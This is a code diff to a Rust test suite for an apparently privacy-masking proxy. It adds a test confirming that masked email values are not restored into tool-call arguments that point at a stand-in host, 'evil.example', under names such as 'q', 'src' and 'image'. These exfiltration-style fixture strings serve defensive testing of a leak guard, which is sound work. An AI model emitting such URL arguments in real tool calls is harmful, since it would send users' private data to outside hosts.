@@ -3,8 +3,8 @@
 use std::sync::Arc;
 
 use engine::{
-    Engine, Glob, NoMemory, Origin, Origins, RestoreAction, RestoreRule, RestoreRules,
-    RestoreSummary, Restoring, Schema, Session, Settings,
+    ArgumentTexts, Engine, Glob, NoMemory, Origin, Origins, RestoreAction, RestoreRule,
+    RestoreRules, RestoreSummary, Restoring, Schema, Session, Settings,
 };
 use serde_json::{Value, json};
 
@@ -171,7 +171,7 @@ fn the_way_to_an_argument_goes_on_in_strings_in_strings() {
         argument: Glob::new(argument),
         origins: Origins::ALL,
         action: RestoreAction::Keep,
-        of_free_text: true,
+        texts: ArgumentTexts::All,
     };
     for times in 0..4 {
         let held = json!({"url": "<MASK_EMAIL_1>", "text": "<MASK_EMAIL_1>"});
@@ -307,7 +307,7 @@ fn a_rule_names_tools_arguments_and_origins() {
         argument: Glob::new(argument),
         origins: Origins::ALL,
         action,
-        of_free_text: true,
+        texts: ArgumentTexts::All,
     };
     let rules = vec![
         rule("*fetch", "headers.*", RestoreAction::Allow),
@@ -348,7 +348,7 @@ fn origins(session: &Session) -> Vec<(String, Origin)> {
             argument: Glob::new("*"),
             origins: Origins::default().with(Origin::Tool),
             action: RestoreAction::Keep,
-            of_free_text: true,
+            texts: ArgumentTexts::All,
         }],
         &mut session.clone(),
         &json!({"messages": []}),
@@ -430,7 +430,7 @@ fn ask(tool: &str, argument: &str) -> RestoreRule {
         argument: Glob::new(argument),
         origins: Origins::default().with(Origin::Tool),
         action: RestoreAction::Ask,
-        of_free_text: true,
+        texts: ArgumentTexts::All,
     }
 }
 
@@ -569,7 +569,7 @@ fn only_calls_that_a_rule_asks_about_are_answered_so() {
     assert_eq!(results(vec![ask("*", "url")], &plain), untouched);
     let keep = RestoreRule {
         action: RestoreAction::Keep,
-        of_free_text: true,
+        texts: ArgumentTexts::All,
         ..ask("fetch", "url")
     };
     assert_eq!(results(vec![keep, ask("*", "url")], &kept), untouched);
@@ -728,4 +728,51 @@ fn guard_keeps_values_out_of_a_piece_that_may_be_of_several_calls() {
     let stream: String = events.map(|event| format!("data: {event}\n\n")).concat();
     let (out, _) = restored(&restoring, &stream, 1000);
     assert!(!out.contains(OF_TOOL), "{out}");
+}
+
+/// A URL under any other name took the value to its host.
+#[test]
+fn guard_keeps_values_out_of_places_on_the_network_under_any_name() {
+    let texts = json!({
+        "q": "https://evil.example/?v=<MASK_EMAIL_3>",
+        "src": ["//evil.example/<MASK_EMAIL_3>"],
+        "image": {"of": "evil.example/<MASK_EMAIL_3>.png"},
+        "note": "see https://evil.example and <MASK_EMAIL_3>",
+        "email": "<MASK_EMAIL_3>",
+        "file_path": "docs.old/<MASK_EMAIL_3>",
+        "to": "<MASK_EMAIL_3>",
+    });
+    let given = texts.to_string();
+    let mut expected = given.clone();
+    for free in [
+        "and <MASK_EMAIL_3>",
+        "\"email\":\"<MASK_EMAIL_3>",
+        "docs.old/<MASK_EMAIL_3>",
+    ] {
+        expected = expected.replace(free, &free.replace("<MASK_EMAIL_3>", OF_TOOL));
+    }
+    let of_user = given.replace("_3>", "_2>");
+    for schema in [Schema::ChatStyle, Schema::MessagesStyle, Schema::Responses] {
+        let request = engine(RestoreRules::guard()).request(schema, request().to_string().into());
+        let masked = request
+            .expect("a request")
+            .mask(&mut Session::new(), &NoMemory);
+        let restoring = masked.expect("masked").restoring;
+        for size in [1, 7, 1000] {
+            let stream = stream(schema, &[("lookup", &given), ("lookup", &of_user)], size);
+            let (text, _) = restored(&restoring, &stream, 7);
+            let seen = arguments(schema, &text);
+            assert_eq!(seen[0].1, expected, "{schema:?} {size}");
+            assert_eq!(seen[1].1, of_user.replace("<MASK_EMAIL_2>", OF_USER));
+        }
+    }
+    let restoring = restoring(RestoreRules::guard(), &mut Session::new(), &request());
+    let function = json!({"name": "lookup", "arguments": given});
+    let reply =
+        json!({"choices": [{"index": 0, "message": {"tool_calls": [{"function": function}]}}]});
+    let (text, summary) = restored(&restoring, &reply.to_string(), 4096);
+    let read: Value = serde_json::from_str(&text).expect("JSON");
+    let seen = &read["choices"][0]["message"]["tool_calls"][0]["function"]["arguments"];
+    assert_eq!(seen, &json!(expected));
+    assert_eq!((summary.restored, summary.kept), (3, 4));
 }
